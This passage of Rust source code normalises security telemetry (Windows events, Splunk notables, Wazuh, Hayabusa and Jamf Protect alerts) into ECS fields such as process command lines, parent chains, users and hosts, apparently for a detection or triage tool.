    let ev = obj.get("Event")?.as_object()?;
    let sys = ev.get("System")?;
    let mut flat = Map::new();
    let put = |flat: &mut Map<String, Json>, k: &str, v: Option<Json>| {
        if let Some(v) = v.filter(|v| !v.is_null()) {
            flat.insert(k.to_owned(), v);
        }
    };
    put(&mut flat, "EventID", sys.get("EventID").and_then(xml_text));
    put(&mut flat, "Channel", sys.get("Channel").and_then(xml_text));
    put(
        &mut flat,
        "Computer",
        sys.get("Computer").and_then(xml_text),
    );
    put(
        &mut flat,
        "RecordNumber",
        sys.get("EventRecordID").and_then(xml_text),
    );
    put(
        &mut flat,
        "ProviderName",
        sys.get("Provider")
            .and_then(|p| xml_attr(p, "Name"))
            .cloned(),
    );
    put(
        &mut flat,
        "TimeCreated",
        sys.get("TimeCreated")
            .and_then(|t| xml_attr(t, "SystemTime"))
            .cloned(),
    );
    put(
        &mut flat,
        "UserID",
        sys.get("Security")
            .and_then(|t| xml_attr(t, "UserID"))
            .cloned(),
    );
    for section in ["EventData", "UserData"] {
        let Some(data) = ev.get(section) else {
            continue;
        };
        match data.get("Data") {
            // Parsers that key the items by name (Datadog's Windows pipeline).
            Some(Json::Object(named)) => {
                for (k, v) in named {
                    if let Some(v) = xml_text(v) {
                        flat.insert(k.clone(), v);
                    }
                }
            }
            // xmltodict / python-evtx: a list of {"@Name": …, "#text": …}; unnamed items (a
            // classic PowerShell event's, one of them `Key=Value` lines) are kept as `Data`.
            Some(Json::Array(items)) => {
                let mut unnamed = Vec::new();
                for it in items {
                    match (xml_attr(it, "Name"), xml_text(it)) {
                        (Some(Json::String(k)), Some(v)) => {
                            flat.insert(k.clone(), v);
                        }
                        (None, Some(v @ Json::String(_))) => unnamed.push(v),
                        _ => {}
                    }
                }
                if !unnamed.is_empty() {
                    flat.entry("Data").or_insert(Json::Array(unnamed));
                }
            }
            _ => {
                if let Some(o) = data.as_object() {
                    for (k, v) in o {
                        if k.starts_with('#') || k.starts_with('@') {
                            continue;
                        }
                        match v {
                            // UserData nests one element holding the fields.
                            Json::Object(inner) if section == "UserData" => {
                                for (k, v) in inner {
                                    if let Some(v) = xml_text(v) {
                                        flat.insert(k.clone(), v);
                                    }
                                }
                            }
                            _ => {
                                if let Some(v) = xml_text(v) {
                                    flat.insert(k.clone(), v);
                                }
                            }
                        }
                    }
                }
            }
        }
    }
    flat.contains_key("EventID").then_some(flat)
}

/// A Splunk notable (or any record) with CIM Endpoint.Processes fields, as an ECS document; the
/// notable's fields stay under `splunk`. Also reads them from a `splunk` object (the Splunk
/// source wraps each notable so).
fn splunk_cim(obj: &Map<String, Json>) -> Option<Map<String, Json>> {
    let (r, wrapped) = match obj.get("splunk") {
        Some(Json::Object(r)) => (r, true),
        _ => (obj, false),
    };
    // A correlation search's `stats` output names its fields after the function
    // (`values(parent_process_name)`, `latest(process)`): read them under the plain name.
    let unwrapped;
    let r = if r.keys().any(|k| k.ends_with(')') && k.contains('(')) {
        let mut m = r.clone();
        for (k, v) in r {
            if let Some((f, inner)) = k.strip_suffix(')').and_then(|k| k.split_once('('))
                && matches!(
                    f,
                    "values" | "latest" | "first" | "last" | "min" | "max" | "list"
                )
                && !inner.is_empty()
                && !r.contains_key(inner)
            {
                m.insert(inner.to_owned(), v.clone());
            }
        }
        unwrapped = m;
        &unwrapped
    } else {
        r
    };
    // A notable that groups several events carries multi-value fields (JSON arrays). The
    // event taken is the first whose process is a shell or interpreter (else the first); the
    // other commands follow its command line, one per line, so the analysis sees them all.
    let pick = match r.get("process_name") {
        Some(Json::Array(names)) => names
            .iter()
            .position(|n| n.as_str().is_some_and(is_interpreter_name))
            .unwrap_or(0),
        _ => 0,
    };
    let text = |k: &str| match r.get(k) {
        Some(Json::String(v)) if !v.is_empty() && v != "unknown" => Some(v.clone()),
        Some(Json::Number(n)) => Some(n.to_string()),
        Some(Json::Array(a)) => a
            .get(pick)
            .or(a.first())
            .and_then(Json::as_str)
            .filter(|v| !v.is_empty() && *v != "unknown")
            .map(str::to_owned),
        _ => None,
    };
    let cmd = match r.get("process") {
        Some(Json::String(c)) => Some(c.clone()),
        Some(Json::Array(all)) if !all.is_empty() => {
            let mut lines: Vec<&str> = Vec::with_capacity(all.len());
            if let Some(first) = all.get(pick).and_then(Json::as_str) {
                lines.push(first);
            }
            for (i, c) in all.iter().enumerate() {
                if i != pick
                    && let Some(c) = c.as_str()
                {
                    lines.push(c);
                }
            }
            Some(lines.join("\n"))
        }
        _ => text("orig_process"),
    };
    // A network device's configuration session (the commands an account typed, T1059.008):
    // the commands are the content, one per line.
    let device_cli =
        cmd.is_none() && text("process_name").is_none() && text("parent_process_name").is_none();
    let cmd = match (device_cli, r.get("command")) {
        (true, Some(Json::String(c))) if !c.is_empty() => Some(c.clone()),
        (true, Some(Json::Array(all))) if !all.is_empty() => Some(
            all.iter()
                .filter_map(Json::as_str)
                .collect::<Vec<_>>()
                .join("\n"),
        ),
        _ => cmd,
    };
    // A sudo record (`linux_secure`: the `sudo` app, the account in `src_user`, the command it
    // ran as `user` in `command`): the command is the process, sudo its parent.
    // Or a rule's context of a sudo line (`user`, `run_as`, `command`, `pwd`).
    let run_as = text("run_as").or_else(|| text("runas"));
    let sudo = (text("app").as_deref() == Some("sudo")
        || cmd.as_deref() == Some("sudo")
        || run_as.is_some())
        && text("command").is_some();
    let cmd = if sudo { text("command") } else { cmd };
    if cmd.is_none() && text("process_name").is_none() && text("parent_process_name").is_none() {
        return None;
    }
    // A search over raw Sysmon events keeps the event's own field names beside CIM's.
    let cmd = cmd.or_else(|| text("CommandLine"));
    let mut e = if wrapped { obj.clone() } else { Map::new() };
    if !wrapped {
        e.insert("splunk".into(), Json::Object(r.clone()));
    }
    e.remove("process");
    let mut set = |path: &str, v: Option<String>| {
        if let Some(v) = v {
            set_path(&mut e, path, Json::String(v));
        }
    };
    set("process.command_line", cmd);
    set("process.name", text("process_name"));
    set(
        "process.executable",
        text("process_path").or_else(|| text("Image")),
    );
    set(
        "process.working_directory",
        text("process_current_directory").or_else(|| text("CurrentDirectory")),
    );
    set(
        "process.parent.command_line",
        text("parent_process").or_else(|| text("ParentCommandLine")),
    );
    set("process.parent.name", text("parent_process_name"));
    set(
        "process.parent.executable",
        text("parent_process_path").or_else(|| text("ParentImage")),
    );
    // A correlation search that joined the grandparent (`grandparent_process_*`).
    set(
        "process.parent.parent.command_line",
        text("grandparent_process"),
    );
    set(
        "process.parent.parent.name",
        text("grandparent_process_name"),
    );
    set(
        "process.parent.parent.executable",
        text("grandparent_process_path"),
    );
    set(
        "process.hash.sha256",
        text("process_hash").map(|h| h.trim_start_matches("SHA256=").to_owned()),
    );
    // In a process notable (Endpoint data model) `dest` is the endpoint itself and `dest_ip`
    // its address. A network flow (Network_Traffic: a source and a destination port) runs on
    // the source, and `dest`/`dest_ip` are the remote side.
    let is_ip = |s: &str| s.parse::<std::net::IpAddr>().is_ok();
    let src = ["src_host", "src_nt_host", "src"]
        .iter()
        .find_map(|k| text(k).filter(|v| !is_ip(v)));
    let flow = text("dest_port").is_some() && (src.is_some() || text("src_ip").is_some());
    if flow {
        set("host.name", src.or_else(|| text("host")));
        set(
            "host.ip",
            text("src_ip").or_else(|| text("src").filter(|v| is_ip(v))),
        );
        set("destination.ip", text("dest_ip"));
        set("destination.domain", text("dest").filter(|d| !is_ip(d)));
    } else if text("dest_port").is_some()
        && text("dest_ip").is_some_and(|ip| match ip.parse::<std::net::IpAddr>() {
            Ok(std::net::IpAddr::V4(v4)) => {
                !(v4.is_private() || v4.is_loopback() || v4.is_link_local())
            }
            _ => false,
        })
        && text("dest").is_some_and(|d| !is_ip(&d))
    {
        // A process's own connections correlated onto the host (`dest` the host, `dest_ip`
        // and `dest_port` the public address it talked to).
        set("host.name", text("dest"));
        set("destination.ip", text("dest_ip"));
    } else {
        set("host.name", text("dest").or_else(|| text("host")));
        set("host.ip", text("dest_ip"));
        // Where the session came from (a login's remote address).
        set(
            "source.ip",
            text("src_ip").or_else(|| text("src")).filter(|v| is_ip(v)),
        );
    }
    // A script block the correlation carries (`script_block_text`, the Endpoint data model's
    // name for PowerShell 4104's text).
    if let Some(sb) = text("script_block_text").or_else(|| text("ScriptBlockText")) {
        set("powershell.file.script_block_text", Some(sb));
    }
    set("url.full", text("url"));
    if sudo {
        set("process.parent.name", Some("sudo".into()));
        set("process.parent.executable", Some("/usr/bin/sudo".into()));
        set("process.working_directory", text("pwd"));
        if run_as.is_some() {
            set("user.effective.name", run_as);
            set("user.name", text("user"));
        } else {
            set("user.effective.name", text("user"));
            set("user.name", text("src_user"));
        }
    } else if let Some(u) = text("user").or_else(|| text("User")) {
        match u.split_once('\\') {
            Some((d, n)) => {
                set("user.domain", Some(d.to_owned()));
                set("user.name", Some(n.to_owned()));
            }
            None => set("user.name", Some(u)),
        }
    }
    // Asset enrichment names the operating system (`dest_os`, or the endpoint's `os`).
    if let Some(os) = text("dest_os").or_else(|| text("os")) {
        let l = os.to_lowercase();
        let family = if l.contains("windows") {
            Some("windows")
        } else if [
            "linux", "ubuntu", "debian", "red hat", "rhel", "centos", "rocky", "alma", "suse",
            "amazon", "fedora",
        ]
        .iter()
        .any(|k| l.contains(k))
        {
            Some("linux")
        } else if l.starts_with("mac")
            || l.contains("macos")
            || l.contains("mac os")
            || l.contains("os x")
            || l.contains("darwin")
        {
            Some("macos")
        } else {
            None
        };
        set("host.os.type", family.map(str::to_owned));
        set("host.os.name", Some(os));
    }
    set(
        "rule.name",
        text("rule_name").or_else(|| text("search_name")),
    );
    if !wrapped {
        set("event.id", text("event_id"));
        let t = text("_time").or_else(|| text("orig_time"));
        let t = t.map(|t| match t.parse::<f64>() {
            Ok(secs) => chrono::DateTime::from_timestamp(secs as i64, 0)
                .map(|d| d.to_rfc3339())
                .unwrap_or(t),
            Err(_) => t,
        });
        set("@timestamp", t);
        let techniques = r
            .get("annotations.mitre_attack")
            .or_else(|| r.get("annotations").and_then(|a| a.get("mitre_attack")))
            .cloned();
        match techniques {
            Some(Json::Array(a)) => {
                set_path(&mut e, "threat.technique.id", Json::Array(a));
            }
            Some(Json::String(t)) => {
                set_path(
                    &mut e,
                    "threat.technique.id",
                    Json::Array(vec![Json::String(t)]),
                );
            }
            _ => {}
        }
    }
    for (from, to) in [
        ("process_id", "process.pid"),
        ("parent_process_id", "process.parent.pid"),
        ("dest_port", "destination.port"),
    ] {
        if let Some(n) = text(from).and_then(|v| v.parse::<i64>().ok()) {
            set_path(&mut e, to, Json::from(n));
        }
    }
    // A device's privilege level (Cisco's 15 is full administration).
    if let Some(l) = text("privilege_level") {
        set_path(
            &mut e,
            "user.roles",
            serde_json::json!([format!("privilege {l}")]),
        );
    }
    // A search over raw Windows events (Sysmon, 4688) keeps the event's own fields beside
    // CIM's: what CIM has no name for (the original file name, integrity, hashes, the parent's
    // account) is read from them.
    if let Some(code) = r.get("EventCode").or_else(|| r.get("EventID"))
        && ["Image", "NewProcessName", "ScriptBlockText"]
            .iter()
            .any(|k| r.contains_key(*k))
    {
        let mut flat = r.clone();
        flat.insert("EventID".into(), code.clone());
        for (k, v) in windows_flat(&flat) {
            if k != "@timestamp" {
                set_path(&mut e, &k, v);
            }
        }
    }
    Some(e)
}

/// A Wazuh alert's event, mapped onto ECS in place (the original `data` stays).
fn wazuh(ecs: &mut Map<String, Json>, id: &mut Option<String>) {
    let doc = Json::Object(ecs.clone());
    let is_wazuh = get_path(&doc, "agent").is_some() && get_path(&doc, "rule").is_some();
    // osquery results decoded under `data.osquery` (a process event, or a crontab or launchd
    // row judged as what it will start).
    if is_wazuh
        && let Some(Json::Object(oq)) = get_path(&doc, "data.osquery")
        && let Some((e, _)) = edr::osquery(oq)
    {
        for (k, v) in e {
            if k != "host" && k != "osquery" {
                ecs.insert(k, v);
            }
        }
        if let Some(a) = get_path(&doc, "agent.name").filter(|a| a.is_string())
            && get_path(&doc, "host.name").is_none()
        {
            set_path(ecs, "host.name", a.clone());
        }
    }
    // Windows' eventchannel under `data.win`; Sysmon for Linux's decoder writes the same
    // `system`/`eventdata` pair straight under `data`.
    let win = if get_path(&doc, "data.win.eventdata").is_some() {
        "data.win"
    } else {
        "data"
    };
    if let Some(Json::Object(ed)) = get_path(&doc, &format!("{win}.eventdata")) {
        // eventchannel fields are the Windows names with a lower-case first letter.
        let pascal = |k: &str| {
            let mut c = k.chars();
            c.next()
                .map(|f| f.to_uppercase().chain(c).collect::<String>())
                .unwrap_or_default()
        };
        // Wazuh's eventchannel decoder escapes every backslash and double quote (`C:` and two
        // backslashes, `\"` for a quote): undo it when the document shows it (a drive letter
        // followed by two backslashes), in one pass so `\\\"` reads back as a backslash and a quote.
        let doubled = ed
            .values()
            .filter_map(Json::as_str)
            .any(|t| t.contains(":\\\\"));
        let undouble = |v: &Json| match v {
            Json::String(t) if doubled => {
                let mut out = String::with_capacity(t.len());
                let mut chars = t.chars().peekable();
                while let Some(c) = chars.next() {
                    match (c, chars.peek()) {
                        ('\\', Some('\\' | '"')) => out.extend(chars.next()),
                        _ => out.push(c),
                    }
                }
                Json::String(out)
            }
            other => other.clone(),
        };
        let mut flat: Map<String, Json> =
            ed.iter().map(|(k, v)| (pascal(k), undouble(v))).collect();
        let sys = |k: &str| get_path(&doc, &format!("{win}.system.{k}")).cloned();
        for (from, to) in [
            ("eventID", "EventID"),
            ("computer", "Hostname"),
            ("channel", "Channel"),
            ("providerName", "ProviderName"),
            ("systemTime", "TimeCreated"),
            ("eventRecordID", "RecordNumber"),
        ] {
            if let Some(v) = sys(from) {
                flat.insert(to.into(), v);
            }
        }
        if !flat.contains_key("Hostname")
            && let Some(a) = get_path(&doc, "agent.name")
        {
            flat.insert("Hostname".into(), a.clone());
        }
        for (k, v) in windows_flat(&flat) {
            // The Wazuh document keeps its own timestamp, agent and rule.
            if k != "@timestamp" || !ecs.contains_key("@timestamp") {
                set_path(ecs, &k, v);
            }
        }
    } else if let Some(Json::Object(a)) = get_path(&doc, "data.audit") {
        let text = |k: &str| match a.get(k) {
            Some(Json::String(v)) if !v.is_empty() => Some(v.clone()),
            Some(Json::Number(n)) => Some(n.to_string()),
            _ => None,
        };
        let Some(exe) = text("exe") else { return };
        set_path(ecs, "process.executable", s(exe.trim_matches('"')));
        if let Some(c) = text("command") {
            set_path(ecs, "process.name", s(c.trim_matches('"')));
        }
        if let Some(Json::Object(ex)) = a.get("execve") {
            // a0, a1, … a10: numeric order, not the map's.
            let mut args: Vec<(usize, String)> = ex
                .iter()
                .filter_map(|(k, v)| {
                    Some((k.strip_prefix('a')?.parse().ok()?, v.as_str()?.to_owned()))
                })
                .collect();
            args.sort_by_key(|(i, _)| *i);
            set_path(
                ecs,
                "process.args",
                Json::Array(
                    args.into_iter()
                        .map(|(_, v)| Json::String(auditd_arg(v)))
                        .collect(),
                ),
            );
        }
        // No EXECVE record (a file watch's syscall: a backup reading /etc/shadow): the process
        // title names the command, as the decoder keeps it or as auditd logs it (hex, NULs
        // between the arguments) in the full log's PROCTITLE record (read below).
        let no_execve = a.get("execve").is_none();
        let set_title = |ecs: &mut Map<String, Json>, t: &str| {
            let t = edr::unhex_text(t).unwrap_or_else(|| t.to_owned());
            let args = funcs::split_args(&t);
            if !args.is_empty() && ecs.get("process").and_then(|p| p.get("args")).is_none() {
                set_path(ecs, "process.args", Json::from(args));
            }
        };
        if no_execve && let Some(t) = text("proctitle") {
            set_title(ecs, &t);
        }
        for (from, to) in [
            ("cwd", "process.working_directory"),
            ("uid", "user.id"),
            ("euid", "user.effective.id"),
            ("auid", "user.audit.id"),
        ] {
            if let Some(v) = text(from) {
                set_path(ecs, to, s(v.trim_matches('"')));
            }
        }
        for (from, to) in [("pid", "process.pid"), ("ppid", "process.parent.pid")] {
            if let Some(n) = text(from).and_then(|v| v.parse::<i64>().ok()) {
                set_path(ecs, to, Json::from(n));
            }
        }
        if let Some(u) = get_path(&doc, "data.srcuser").or_else(|| get_path(&doc, "data.dstuser")) {
            set_path(ecs, "user.name", u.clone());
        }
        // A terminal: someone typed it (a web server's or a daemon's commands have none).
        if let Some(t) = text("tty") {
            set_path(ecs, "process.interactive", Json::Bool(t != "(none)"));
        }
        // The account names auditd's enriched format adds (`UID="www-data" AUID="alice"`),
        // which the decoder leaves in the full log, read from the decoded event's own record.
        // A full log holding several events (the rule matched a sequence) names the program
        // this process was before its last exec, or its parent, in an earlier one.
        if let Some(log) = get_str(&doc, "full_log") {
            // The rule's earlier matches (`previous_output`, a correlation rule's) come first.
            let mut events = get_str(&doc, "previous_output")
                .map(audit_events)
                .unwrap_or_default();
            events.extend(audit_events(log));
            let own = text("id")
                .and_then(|id| events.iter().position(|e| e.serial == id))
                .unwrap_or(events.len().saturating_sub(1));
            if let Some(me) = events.get(own) {
                if no_execve && let Some(t) = me.field("proctitle") {
                    set_title(ecs, t);
                }
                for (k, to) in [
                    ("UID", "user.name"),
                    ("EUID", "user.effective.name"),
                    ("AUID", "user.audit.name"),
                ] {
                    if let Some(v) = me.field(k).filter(|v| *v != "unset") {
                        set_path(ecs, to, s(v));
                    }
                }
                let (pid, ppid) = (me.field("pid"), me.field("ppid"));
                let before = events[..own].iter().rev().find(|e| {
                    e.field("pid").is_some() && (e.field("pid") == pid || e.field("pid") == ppid)
                });
                if let Some(b) = before {
                    if let Some(exe) = b.field("exe") {
                        set_path(ecs, "process.parent.executable", s(exe));
                        set_path(ecs, "process.parent.name", s(basename_of(exe)));
                    }
                    if let Some(u) = b.field("UID").filter(|v| *v != "unset") {
                        set_path(ecs, "process.parent.user.name", s(u));
                    }
                    if let Some(n) = b.field("argc").and_then(|n| n.parse::<i64>().ok()) {
                        set_path(ecs, "process.parent.args_count", Json::from(n));
                        let args: Vec<String> = (0..n)
                            .map_while(|i| {
                                b.field(&format!("a{i}")).map(|a| auditd_arg(a.to_owned()))
                            })
                            .collect();
                        if !args.is_empty() {
                            set_path(ecs, "process.parent.command_line", s(&args.join(" ")));
                        }
                    }
                }
            }
        }
        // A pipeline that joined the parent and grandparent records (`parent`, `grandparent`:
        // `exe`, `cmd`, `argc`, `uid`), and the login account (`login_user`).
        for (k, prefix) in [
            ("parent", "process.parent"),
            ("grandparent", "process.parent.parent"),
        ] {
            let Some(Json::Object(p)) = a.get(k) else {
                continue;
            };
            let ptext = |k: &str| match p.get(k) {
                Some(Json::String(v)) if !v.trim().is_empty() => Some(v.trim().to_owned()),
                Some(Json::Number(n)) => Some(n.to_string()),
                _ => None,
            };
            let have = prefix
                .split('.')
                .try_fold(&*ecs, |m, k| m.get(k)?.as_object())
                .is_some_and(|m| m.contains_key("executable"));
            if have {
                continue;
            }
            if let Some(exe) = ptext("exe") {
                set_path(ecs, &format!("{prefix}.executable"), s(&exe));
                set_path(ecs, &format!("{prefix}.name"), s(basename_of(&exe)));
            }
            if let Some(c) = ptext("cmd").or_else(|| ptext("cmdline")) {
                set_path(ecs, &format!("{prefix}.command_line"), s(&c));
            }
            if let Some(n) = ptext("argc").and_then(|n| n.parse::<i64>().ok()) {
                set_path(ecs, &format!("{prefix}.args_count"), Json::from(n));
            }
            if let Some(u) = ptext("uid") {
                set_path(ecs, &format!("{prefix}.user.id"), s(&u));
            }
        }
        if let Some(u) = text("login_user") {
            set_path(ecs, "user.audit.name", s(&u));
        }
        set_path(ecs, "event.category", serde_json::json!(["process"]));
        set_path(ecs, "event.type", serde_json::json!(["start"]));
        set_path(ecs, "host.os.type", s("linux"));
        set_path(ecs, "host.os.family", s("linux"));
    } else if let Some(Json::String(cmd)) = get_path(&doc, "data.command").cloned()
        && is_wazuh
        && get_path(&doc, "data.dstuser").is_some()
    {
        // The sudo decoder (Linux and macOS): who ran what as whom, from where. The cron
        // decoder shares its fields: there `dstuser` is the crontab's owner and cron runs the
        // command through `sh -c`.
        let cron = get_str(&doc, "decoder.parent") == Some("cron")
            || get_str(&doc, "decoder.name").is_some_and(|n| n.starts_with("cron"))
            || get_str(&doc, "predecoder.program_name")
                .is_some_and(|p| p.eq_ignore_ascii_case("cron"));
        if cron {
            cron_job(ecs, &cmd, get_path(&doc, "data.dstuser").cloned());
        } else {
            set_path(ecs, "process.command_line", s(&cmd));
            if let Some(exe) = cmd.split_whitespace().next() {
                set_path(ecs, "process.executable", s(exe));
                set_path(ecs, "process.name", s(basename_of(exe)));
            }
            set_path(ecs, "process.parent.name", s("sudo"));
            if let Some(u) = get_path(&doc, "data.srcuser") {
                set_path(ecs, "user.name", u.clone());
            }
            if let Some(u) = get_path(&doc, "data.dstuser") {
                set_path(ecs, "user.effective.name", u.clone());
            }
        }
        if let Some(d) = get_path(&doc, "data.pwd") {
            set_path(ecs, "process.working_directory", d.clone());
        }
        if get_str(&doc, "location") == Some("macos") {
            set_path(ecs, "host.os.type", s("macos"));
        }
        set_path(ecs, "event.category", serde_json::json!(["process"]));
    } else {
        return;
    }
    if is_wazuh {
        if get_in(ecs, "host.name").is_none()
            && let Some(a) = get_path(&doc, "agent.name")
        {
            set_path(ecs, "host.name", a.clone());
        }
        if id.is_none() {
            *id = get_str(&doc, "id").map(str::to_owned);
        }
        if !ecs.contains_key("@timestamp")
            && let Some(t) = get_path(&doc, "timestamp")
        {
            ecs.insert("@timestamp".into(), t.clone());
        }
    }
}

/// A Hayabusa JSON line: `Computer`, `Channel`, `EventID`, `RuleTitle`, `MitreTags`, and the
/// event's fields under `Details` with Hayabusa's abbreviations (`Cmdline`, `Proc`, `User`,
/// `ParentCmdline`, `ParentProc`, `PID`…) plus the rest under `ExtraFieldInfo`, in their Windows
/// names. Turned into the flat Windows shape; the original line stays under `hayabusa`.
fn hayabusa(obj: &Map<String, Json>) -> Option<Map<String, Json>> {
    let details = obj.get("Details")?.as_object()?;
    if !obj.contains_key("RuleTitle") || !obj.contains_key("EventID") {
        return None;
    }
    let mut flat = Map::new();
    if let Some(Json::Object(extra)) = obj.get("ExtraFieldInfo") {
        for (k, v) in extra {
            flat.insert(k.clone(), v.clone());
        }
    }
    for (from, to) in [
        ("Cmdline", "CommandLine"),
        ("Proc", "Image"),
        ("User", "User"),
        ("ParentCmdline", "ParentCommandLine"),
        ("ParentProc", "ParentImage"),
        ("PID", "ProcessId"),
        ("PGUID", "ProcessGuid"),
        ("ParentPGUID", "ParentProcessGuid"),
        ("LID", "LogonId"),
        ("Hashes", "Hashes"),
        ("TgtFile", "TargetFilename"),
        ("ScriptBlock", "ScriptBlockText"),
        ("Path", "Path"),
        ("DstIP", "DestinationIp"),
        ("DstPort", "DestinationPort"),
        ("Query", "QueryName"),
    ] {
        if let Some(v) = details.get(from) {
            flat.insert(to.into(), v.clone());
        }
    }
    for k in ["Computer", "EventID", "RecordID", "Timestamp"] {
        if let Some(v) = obj.get(k) {
            flat.insert(
                if k == "RecordID" {
                    "RecordNumber".into()
                } else {
                    k.into()
                },
                v.clone(),
            );
        }
    }
    if let Some(Json::String(c)) = obj.get("Channel") {
        let channel = match c.as_str() {
            "Sec" => "Security",
            "Sysmon" => "Microsoft-Windows-Sysmon/Operational",
            "PwSh" | "PwShScriptBlock" => "Microsoft-Windows-PowerShell/Operational",
            other => other,
        };
        flat.insert("Channel".into(), s(channel));
    }
    // Techniques as Sigma tags, which the normaliser already reads.
    let tags: Vec<Json> = obj
        .get("MitreTags")
        .and_then(Json::as_array)
        .into_iter()
        .flatten()
        .filter_map(Json::as_str)
        .map(|t| s(&format!("attack.{}", t.to_lowercase())))
        .collect();
    let mut rule = Map::new();
    if let Some(t) = obj.get("RuleTitle") {
        rule.insert("title".into(), t.clone());
    }
    rule.insert("tags".into(), Json::Array(tags));
    flat.insert("rule".into(), Json::Object(rule));
    flat.insert("hayabusa".into(), Json::Object(obj.clone()));
    Some(flat)
}

/// A Jamf Protect alert: `match.event.pid` names the process among `related.processes` (each
/// with `path`, `args`, `pid`, `ppid`, `pgid`, `uid`), `related.users` the accounts,
/// `match.tags` the techniques and `match.facts` the analytics that fired. The alert's own
/// fields stay under `jamf_protect`.
fn jamf_protect(outer: &Map<String, Json>) -> Option<(Map<String, Json>, Option<String>)> {
    // As Jamf Protect's SIEM and webhook outputs send it, the alert under `input` (beside the
    // `caid`/`certid` of the submitting device).
    let obj = match outer.get("input").and_then(Json::as_object) {
        Some(i) if !outer.contains_key("match") && i.contains_key("match") => i,
        _ => outer,
    };
    let m = obj.get("match")?.as_object()?;
    let ev = m.get("event")?;
    // Analytic matches name the process by pid among `related.processes`; threat-prevention
    // matches (`matchType` "Threat Signature") carry it whole under `match.event.process`.
    // (Some exports put that process beside the event, `match.process`.)
    let embedded = ev
        .get("process")
        .or_else(|| m.get("process"))
        .filter(|p| p.get("path").is_some());
    let none = Vec::new();
    let procs = obj
        .get("related")
        .and_then(|r| r.get("processes"))
        .and_then(Json::as_array)
        .unwrap_or(&none);
    // An analytic's match that names no pid judges the first related process with arguments
    // (the one its facts matched; the others are its ancestors and what it went on to run).
    let pid = ev
        .get("pid")
        .or_else(|| embedded.and_then(|p| p.get("pid")))
        .and_then(Json::as_i64)
        .or_else(|| {
            procs
                .iter()
                .find(|p| p.get("args").is_some_and(Json::is_array))?
                .get("pid")?
                .as_i64()
        })?;
    let find = |p: i64| {
        procs
            .iter()
            .find(|x| x.get("pid").and_then(Json::as_i64) == Some(p))
    };
    // A process event's match is the process itself (`path`, `args`, `signingInfo` beside
    // the pid), whether or not `related.processes` repeats it.
    let me = find(pid)
        .or(embedded)
        .or_else(|| ev.get("path").map(|_| ev))?;
    let users = obj
        .get("related")
        .and_then(|r| r.get("users"))
        .and_then(Json::as_array);
    let user_name = |uid: Option<&Json>| {
        let uid = uid?.as_i64()?;
        users?
            .iter()
            .find(|u| u.get("uid").and_then(Json::as_i64) == Some(uid))
            .and_then(|u| u.get("name").cloned())
    };
    let mut e = Map::new();
    let put = |e: &mut Map<String, Json>, prefix: &str, p: &Json| {
        if let Some(path) = p.get("path").and_then(Json::as_str) {
            set_path(e, &format!("{prefix}.executable"), s(path));
            set_path(e, &format!("{prefix}.name"), s(basename_of(path)));
        }
        if let Some(a) = p.get("args").filter(|a| a.is_array()) {
            set_path(e, &format!("{prefix}.args"), a.clone());
        }
        if let Some(n) = p.get("pid") {
            set_path(e, &format!("{prefix}.pid"), n.clone());
        }
        if let Some(sig) = p.get("signingInfo") {
            set_path(e, &format!("{prefix}.code_signature"), sig.clone());
        }
        if let Some(cwd) = p.get("cwd").filter(|c| c.is_string()) {
            set_path(e, &format!("{prefix}.working_directory"), cwd.clone());
        }
    };
    put(&mut e, "process", me);
    // The related copy may be abridged (`…` in place of the script): the match's own record
    // of the same process, when it carries more of the arguments, is the command line.
    let arg_len = |p: &Json| {
        p.get("args").and_then(Json::as_array).map_or(0, |a| {
            a.iter()
                .filter_map(Json::as_str)
                .map(str::len)
                .sum::<usize>()
        })
    };
    if let Some(full) = embedded.filter(|x| {
        !std::ptr::eq(*x, me)
            && x.get("pid").and_then(Json::as_i64).is_none_or(|p| p == pid)
            && arg_len(x) > arg_len(me)
    }) && let Some(a) = full.get("args")
        && let Some(Json::Object(p)) = e.get_mut("process")
    {
        p.insert("args".into(), a.clone());
    }
    let ppid = me
        .get("ppid")
        .and_then(Json::as_i64)
        .filter(|p| *p != pid && *p > 0)
        .or_else(|| me.get("originalParentPID").and_then(Json::as_i64));
    if let Some(parent) = ppid.and_then(find) {
        put(&mut e, "process.parent", parent);
        if let Some(gp) = parent
            .get("ppid")
            .and_then(Json::as_i64)
            .filter(|g| *g > 1 && Some(*g) != ppid)
            .and_then(find)
        {
            put(&mut e, "process.parent.parent", gp);
        }
    } else {
        // A process match that carries its ancestors beside the process (`parentProcess`,
        // `grandparentProcess`, or `parent` and `grandparent`) when `related.processes` lists
        // none of them.
        let beside = |k: &str| {
            [k, k.trim_end_matches("Process")]
                .into_iter()
                .find_map(|k| {
                    embedded
                        .and_then(|p| p.get(k))
                        .or_else(|| ev.get(k))
                        .filter(|p| p.get("path").is_some() || p.get("args").is_some())
                })
        };
        if let Some(pp) = beside("parentProcess") {
            put(&mut e, "process.parent", pp);
            if let Some(gp) = beside("grandparentProcess") {
                put(&mut e, "process.parent.parent", gp);
            }
        }
    }
    if let Some(leader) = me
        .get("pgid")
        .and_then(Json::as_i64)
        .filter(|g| *g != pid && Some(*g) != ppid)
        .and_then(find)
    {
        put(&mut e, "process.group_leader", leader);
    }
    // The chain's first process below launchd (a daemon such as `jamf policy`, an app the user
    // opened): ECS's entry leader, the process through which the chain entered the system.
    let mut top = None;
    let mut cur = ppid;
    for _ in 0..32 {
        let Some(p) = cur.filter(|p| *p > 1).and_then(find) else {
            break;
        };
        top = Some(p);
        cur = p
            .get("ppid")
            .and_then(Json::as_i64)
            .filter(|n| Some(*n) != cur);
    }
    if let Some(t) = top.filter(|t| t.get("pid").and_then(Json::as_i64) != ppid) {
        put(&mut e, "process.entry_leader", t);
    }
    // The related processes outside the judged one's ancestry (the `sudo -S` its parent ran
    // after the prompt): their commands follow its own, as branches.
    let parent_of = |x: &Json| {
        x.get("ppid")
            .and_then(Json::as_i64)
            .filter(|p| *p > 1)
            .or_else(|| x.get("originalParentPID").and_then(Json::as_i64))
    };
    let mut ancestors = Vec::new();
    let mut cur = ppid;
    while let Some(p) = cur.filter(|p| *p > 1 && !ancestors.contains(p)) {
        ancestors.push(p);
        cur = find(p).and_then(parent_of);
    }
    let argv = edr::joined_args;
    let others: Vec<String> = procs
        .iter()
        .filter(|x| {
            // A sibling or a child: started by the judged process or one of its ancestors (or
            // with no parent named, listed as related all the same).
            x.get("pid")
                .and_then(Json::as_i64)
                .is_some_and(|p| p != pid && !ancestors.contains(&p))
                && parent_of(x).is_none_or(|pp| pp == pid || ancestors.contains(&pp))
        })
        .filter_map(argv)
        .collect();
    if !others.is_empty()
        && let Some(all) =
